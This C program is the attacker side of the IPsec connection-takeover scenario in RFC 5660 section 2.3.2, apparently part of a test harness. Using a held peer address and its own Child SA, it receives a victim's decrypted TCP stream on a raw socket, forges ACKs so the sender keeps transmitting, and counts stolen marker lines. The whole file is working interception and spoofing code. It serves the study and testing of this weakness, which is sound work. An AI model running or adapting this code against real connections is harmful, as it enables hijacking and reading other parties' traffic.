// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * takeover: what the attacker C of RFC 5660 section 2.3.2 runs once its Child SA is up.
 *
 * C holds A's address, and a Child SA of its own with B for exactly the ports of A's connection.
 * B's kernel now encrypts A's stream for C. Here a raw socket receives the segments as C's kernel
 * hands them up after decryption, and each one is answered with a hand-made ACK, so that B's
 * unmodified TCP believes that A is alive and keeps sending. The ACKs need neither A's window scale
 * nor its time stamps: they leave the stream exactly at the byte B expects.
 *
 * What counts as stolen: bytes of whole lines that hold the marker, taken from the stream in order
 * of sequence numbers, each byte once. Retransmissions count as duplicates. The kernel's inbound
 * policy check applies to raw sockets, so that with C's policies installed a segment that came in
 * clear never arrives here; that the bytes were encrypted on the way is for the caller's capture
 * and SA counters to show.
 *
 * A raw socket's flow has no ports, so that C's own outbound policy does not match the ACKs. With
 * -r the socket gets its own policy: under the tunnel-mode SA with that reqid. C's kernel knows no
 * such connection and would answer B with RST: the caller suppresses that.
 */
#include "shared/program.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/in.h>
#include <linux/ip.h>
#include <linux/tcp.h>
#include <linux/xfrm.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define LINE_MAX_BYTES 1024
#define ACK_WINDOW 65535
#define TICK_MS 100	/* so often we look whether we are to stop */
#define MARKER "secret"

const char usage[] =
	"usage: takeover [-n BYTES] [-t SECONDS] [-i SECONDS] [-r REQID]\n"
	"                PEER PEER_PORT LOCAL LOCAL_PORT\n"
	"Receive the TCP stream that PEER sends to LOCAL without having the connection (IPv4),\n"
	"and acknowledge it, until BYTES of lines \"secret N ...\" came (-n, default 4096), PEER\n"
	"ended the connection, nothing came for some time after the first segment (-i, default\n"
	"15), or the deadline passed (-t, default 60), or SIGTERM came. -r: acknowledge under\n"
	"the tunnel-mode SA that has this reqid. Prints at the start, after the first\n"
	"line, and at the end:\n"
	"  ready\n"
	"  sample LINE\n"
	"  result stolen=BYTES lines=N first=NUMBER last=NUMBER distinct=BYTES duplicates=BYTES\n"
	"         segments=N acks=N ended=bytes|peer|idle|deadline|stopped   (one line)\n"
	"\"first\" and \"last\" number the first and last line stolen, -1 if none.\n"
	"Exit status: 0 when BYTES were stolen, 1 when not, 2 on a usage or system error.\n";

struct theft {
	uint32_t next;			/* the sequence number B sends next */
	bool started, peer_ended;
	unsigned long stolen, lines, distinct, duplicates, segments, acks;
	long first, last;
	char line[LINE_MAX_BYTES];
	size_t line_len;
	bool line_whole;		/* false: we came in the middle of this line */
};

struct flow {
	int fd;
	struct sockaddr_in peer, local;
};

static long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static struct sockaddr_in endpoint(const char *address, const char *port)
{
	struct sockaddr_in sin = {
		.sin_family = AF_INET,
		.sin_port = htons(number("bad port", port, 1, 65535)),
	};

	if (inet_pton(AF_INET, address, &sin.sin_addr) != 1)
		bad_usage("not an IPv4 address", address);
	return sin;
}

static void send_under_sa(const struct flow *flow, long reqid)
{
	struct {
		struct xfrm_userpolicy_info info;
		struct xfrm_user_tmpl tmpl;
	} policy = {
		.info = {
			.sel.family = AF_INET,
			.lft = { XFRM_INF, XFRM_INF, XFRM_INF, XFRM_INF, 0, 0, 0, 0 },
			.dir = XFRM_POLICY_OUT,
			.action = XFRM_POLICY_ALLOW,
		},
		.tmpl = {
			.id = { .daddr.a4 = flow->peer.sin_addr.s_addr, .proto = IPPROTO_ESP },
			.family = AF_INET,
			.saddr.a4 = flow->local.sin_addr.s_addr,
			.reqid = (uint32_t)reqid,
			.mode = XFRM_MODE_TUNNEL,
			.aalgos = ~0U, .ealgos = ~0U, .calgos = ~0U,
		},
	};

	if (setsockopt(flow->fd, IPPROTO_IP, IP_XFRM_POLICY, &policy, sizeof(policy)) != 0)
		die("IP_XFRM_POLICY");
}

/* Raw sockets are bound and connected by address only; port numbers stay in the flow. */
static void open_flow(struct flow *flow, long reqid)
{
	struct sockaddr_in local = flow->local, peer = flow->peer;
	int room = 1 << 20;

	local.sin_port = peer.sin_port = 0;
	flow->fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_TCP);
	if (flow->fd < 0)
		die("raw socket");
	setsockopt(flow->fd, SOL_SOCKET, SO_RCVBUF, &room, sizeof(room));
	if (reqid != 0)
		send_under_sa(flow, reqid);
	if (bind(flow->fd, (struct sockaddr *)&local, sizeof(local)) != 0)
		die("bind");
	if (connect(flow->fd, (struct sockaddr *)&peer, sizeof(peer)) != 0)
		die("connect");
	printf("ready\n");
}

static uint16_t tcp_checksum(const struct flow *flow, const struct tcphdr *tcp)
{
	struct {
		uint32_t source, destination;
		uint16_t protocol, length;
		struct tcphdr tcp;
	} pseudo = {
		flow->local.sin_addr.s_addr, flow->peer.sin_addr.s_addr,
		htons(IPPROTO_TCP), htons(sizeof(*tcp)), *tcp,
	};
	uint16_t words[sizeof(pseudo) / 2];
	uint32_t sum = 0;

	memcpy(words, &pseudo, sizeof(words));
	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		sum += words[i];
	sum = (sum >> 16) + (sum & 0xffff);
	return ~(sum + (sum >> 16));
}

/* @seq: what B acknowledged last, so that our empty segment lies in its window. */
static void acknowledge(const struct flow *flow, struct theft *theft, uint32_t seq)
{
	struct tcphdr tcp = {
		.source = flow->local.sin_port, .dest = flow->peer.sin_port,
		.seq = htonl(seq), .ack_seq = htonl(theft->next),
		.doff = sizeof(tcp) / 4, .ack = 1, .window = htons(ACK_WINDOW),
	};

	tcp.check = tcp_checksum(flow, &tcp);
	if (send(flow->fd, &tcp, sizeof(tcp), 0) == sizeof(tcp))
		theft->acks++;
	else if (errno != ENOBUFS && errno != EAGAIN)
		die("send");
}

static void end_line(struct theft *theft)
{
	char *found = theft->line_whole ? strstr(theft->line, MARKER) : NULL;

	if (found != NULL) {
		if (theft->lines == 0) {
			printf("sample %s\n", theft->line);
			theft->first = atol(found + strlen(MARKER));
		}
		theft->last = atol(found + strlen(MARKER));
		theft->lines++;
		theft->stolen += theft->line_len + 1;
	}
	theft->line_len = 0;
	theft->line_whole = true;
}

static void take(struct theft *theft, const unsigned char *data, size_t len)
{
	theft->distinct += len;
	theft->next += len;
	for (size_t i = 0; i < len; i++) {
		theft->line[theft->line_len] = data[i] == '\n' ? '\0' : data[i];
		if (data[i] == '\n')
			end_line(theft);
		else if (theft->line_len < sizeof(theft->line) - 1)
			theft->line_len++;
		else
			theft->line_whole = false;
	}
}

/* One segment of B's. Returns true if it carried data. */
static bool segment(const struct flow *flow, struct theft *theft, const struct tcphdr *tcp,
		    size_t len)
{
	size_t header = tcp->doff * 4;

	if (header < sizeof(*tcp) || header > len)
		return false;
	theft->peer_ended = theft->peer_ended || tcp->rst || tcp->fin;

	const unsigned char *data = (const unsigned char *)tcp + header;
	uint32_t seq = ntohl(tcp->seq), size = len - header;

	if (size == 0)
		return false;
	if (!theft->started)
		theft->next = seq;
	theft->started = true;
	theft->segments++;

	/* How much of it we have already; negative: something before it is missing. */
	int32_t old = (int32_t)(theft->next - seq);

	if (old >= 0) {
		theft->duplicates += (uint32_t)old < size ? (uint32_t)old : size;
		if ((uint32_t)old < size)
			take(theft, data + old, size - old);
	}
	acknowledge(flow, theft, ntohl(tcp->ack_seq));
	return true;
}

static bool receive(const struct flow *flow, struct theft *theft)
{
	static _Alignas(4) unsigned char packet[65536];
	ssize_t got = recv(flow->fd, packet, sizeof(packet), 0);

	if (got < 0 && (errno == EINTR || errno == EAGAIN || errno == ECONNREFUSED))
		return false;
	if (got < 0)
		die("receive");

	size_t header = ((struct iphdr *)packet)->ihl * 4;

	if ((size_t)got < header + sizeof(struct tcphdr))
		return false;

	const struct tcphdr *tcp = (const struct tcphdr *)(packet + header);

	if (tcp->source != flow->peer.sin_port || tcp->dest != flow->local.sin_port)
		return false;
	return segment(flow, theft, tcp, (size_t)got - header);
}

static const char *steal(const struct flow *flow, struct theft *theft, unsigned long want,
			 long deadline_ms, long idle_ms)
{
	long end = now_ms() + deadline_ms, idle_end = end;

	for (;;) {
		struct pollfd pfd = { .fd = flow->fd, .events = POLLIN };
		long now = now_ms();
		long rest = (end < idle_end ? end : idle_end) - now;

		if (theft->stolen >= want)
			return "bytes";
		if (theft->peer_ended)
			return "peer";
		if (stopped)
			return "stopped";
		if (now >= end)
			return "deadline";
		if (now >= idle_end)
			return "idle";
		if (poll(&pfd, 1, rest < TICK_MS ? rest : TICK_MS) > 0 &&
		    receive(flow, theft))
			idle_end = now_ms() + idle_ms;
	}
}

int main(int argc, char **argv)
{
	struct theft theft = { .first = -1, .last = -1 };
	long want = 4096, deadline = 60, idle = 15, reqid = 0;
	struct sigaction sa = { .sa_handler = stop };
	struct flow flow;
	int opt;

	if (argc == 2 && strcmp(argv[1], "--help") == 0) {
		fputs(usage, stdout);
		return 0;
	}
	while ((opt = getopt(argc, argv, "n:t:i:r:")) != -1) {
		if (opt == 'n')
			want = number("bad number of bytes", optarg, 1, 1000000000);
		else if (opt == 't')
			deadline = number("bad deadline", optarg, 1, 86400);
		else if (opt == 'i')
			idle = number("bad idle time", optarg, 1, 86400);
		else if (opt == 'r')
			reqid = number("bad reqid", optarg, 1, UINT32_MAX);
		else
			bad_usage("cannot use option", argv[optind - 1]);
	}
	if (argc - optind != 4)
		bad_usage("want two addresses and ports, last argument is", argv[argc - 1]);

	setvbuf(stdout, NULL, _IOLBF, 0);
	sigaction(SIGTERM, &sa, NULL);
	flow.peer = endpoint(argv[optind], argv[optind + 1]);
	flow.local = endpoint(argv[optind + 2], argv[optind + 3]);
	open_flow(&flow, reqid);

	const char *ended = steal(&flow, &theft, want, deadline * 1000, idle * 1000);

	printf("result stolen=%lu lines=%lu first=%ld last=%ld distinct=%lu duplicates=%lu "
	       "segments=%lu acks=%lu ended=%s\n", theft.stolen, theft.lines, theft.first,
	       theft.last, theft.distinct, theft.duplicates, theft.segments, theft.acks, ended);
	return theft.stolen >= (unsigned long)want ? 0 : 1;
}
